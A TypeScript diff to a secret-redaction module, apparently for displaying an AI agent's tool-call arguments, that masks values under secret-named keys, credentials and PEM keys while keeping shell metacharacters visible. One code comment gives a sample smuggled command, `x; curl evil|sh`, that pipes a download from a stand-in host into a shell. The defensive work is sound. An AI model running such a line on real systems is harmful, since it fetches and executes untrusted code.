@@ -1,4 +1,4 @@
-import { DEFAULT_REDACTION, QUICK_PROBES, REDACTED, type RedactionRules } from "./rules.js";
+import { DEFAULT_REDACTION, PEM_PRIVATE_KEY_BLOCK, QUICK_PROBES, REDACTED, type RedactionRules } from "./rules.js";
 
 /**
  * Redacts one value: returns it unchanged (the same reference) when nothing matched, otherwise a copy
@@ -43,6 +43,24 @@ function unionOf(values: readonly RegExp[]): RegExp | undefined {
   if (values.length === 0 || values.some(unmergeable)) return undefined;
   const flags = `i${values.some((re) => re.flags.includes("s")) ? "s" : ""}${values.some((re) => re.flags.includes("m")) ? "m" : ""}`;
   return new RegExp(values.map((re) => `(?:${QUICK_PROBES.get(re.source) ?? re.source})`).join("|"), flags);
+}
+
+/**
+ * Under a secret-named key a value is hidden too, but never whitespace, a line break or a shell
+ * metacharacter (`$ ( ) ; | & { } < > \` " ' \\`): an agent names the keys of its arguments, and the
+ * approved call runs with the original. A string without any of those is replaced whole (a token, a
+ * password, an API key); so is a whole `Bearer`/`Basic`/`Token`/`DPoP`/`Bot` credential and a whole PEM
+ * private key block. Any other string keeps those characters and has each run between them replaced
+ * (`x; curl evil|sh` is shown as `[REDACTED]; [REDACTED] [REDACTED]|[REDACTED]`).
+ */
+const KEPT_UNDER_KEY = /[\s$()|;&{}<>`"'\\]/;
+const HIDDEN_RUN_UNDER_KEY = /[^\s$()|;&{}<>`"'\\]+/g;
+const WHOLE_CREDENTIAL = /^(?:bearer|basic|token|dpop|bot) [A-Za-z0-9._~+/-]{1,4096}={0,2}$/i;
+const WHOLE_PEM = new RegExp(`^(?:${PEM_PRIVATE_KEY_BLOCK})(?:\\r?\\n)?$`);
+
+function hideUnderKey(text: string, placeholder: string): string {
+  if (!KEPT_UNDER_KEY.test(text) || WHOLE_CREDENTIAL.test(text) || WHOLE_PEM.test(text)) return placeholder;
+  return text.replace(HIDDEN_RUN_UNDER_KEY, placeholder);
 }
 
 const NONE: readonly string[] = [];
@@ -182,39 +200,49 @@ export function createRedactor(rules: RedactionRules = DEFAULT_REDACTION, option
   };
   const path: object[] = []; // the objects being walked, root first (cycle check without a Set per call)
   let secrets: readonly string[] = [];
-  const walk = (value: unknown, depth: number): unknown => {
-    if (typeof value === "string") return redactString(value, secrets);
+  // `hidden`: under a secret-named key (at any depth below it): scalars are replaced, strings as
+  // `hideUnderKey` says; objects and arrays are walked so their shape and key names stay readable.
+  const walk = (value: unknown, depth: number, hidden: boolean): unknown => {
+    if (typeof value === "string") {
+      if (!hidden) return redactString(value, secrets);
+      let text = value;
+      for (const secret of secrets) if (text.includes(secret)) text = text.split(secret).join(placeholder);
+      return hideUnderKey(text, placeholder);
+    }
     if (typeof value === "number" || typeof value === "bigint") {
+      if (hidden) return placeholder;
       if (secrets.length === 0) return value;
       const digits = String(value);
       return secrets.some((s) => digits.includes(s)) ? placeholder : value;
     }
-    if (value === null || typeof value !== "object") return value;
+    if (value === null || typeof value !== "object") return hidden ? placeholder : value;
     if (depth > maxDepth || path.includes(value)) return placeholder;
     path.push(value);
     try {
-      return Array.isArray(value) ? walkArray(value as readonly unknown[], depth) : walkObject(value, depth);
+      return Array.isArray(value)
+        ? walkArray(value as readonly unknown[], depth, hidden)
+        : walkObject(value, depth, hidden);
     } finally {
       path.pop();
     }
   };
-  const walkArray = (list: readonly unknown[], depth: number): readonly unknown[] => {
+  const walkArray = (list: readonly unknown[], depth: number, hidden: boolean): readonly unknown[] => {
     let out: unknown[] | undefined;
     for (let i = 0; i < list.length; i++) {
-      const next = walk(list[i], depth + 1);
+      const next = walk(list[i], depth + 1, hidden);
       if (next !== list[i]) (out ??= list.slice())[i] = next;
     }
     return out ?? list;
   };
   // Builds a copy only from the first key that changes; an untouched object costs no allocation.
-  const walkObject = (record: object, depth: number): object => {
+  const walkObject = (record: object, depth: number, hidden: boolean): object => {
     const source = record as Record<string, unknown>;
     const keys = Object.keys(source);
     let out: Record<string, unknown> | undefined;
     for (let i = 0; i < keys.length; i++) {
       const key = keys[i] as string;
       const child = source[key];
-      const next = isSecretKey(key) ? placeholder : walk(child, depth + 1);
+      const next = walk(child, depth + 1, hidden || isSecretKey(key));
       const name = redactString(key, secrets);
       if (out === undefined && (next !== child || name !== key)) {
         out = {};
@@ -227,7 +255,7 @@ export function createRedactor(rules: RedactionRules = DEFAULT_REDACTION, option
   return (root) => {
     secrets = secretsNow();
     if (typeof root === "string") return redactString(root, secrets);
-    return walk(root, 0);
+    return walk(root, 0, false);
   };
 }
 
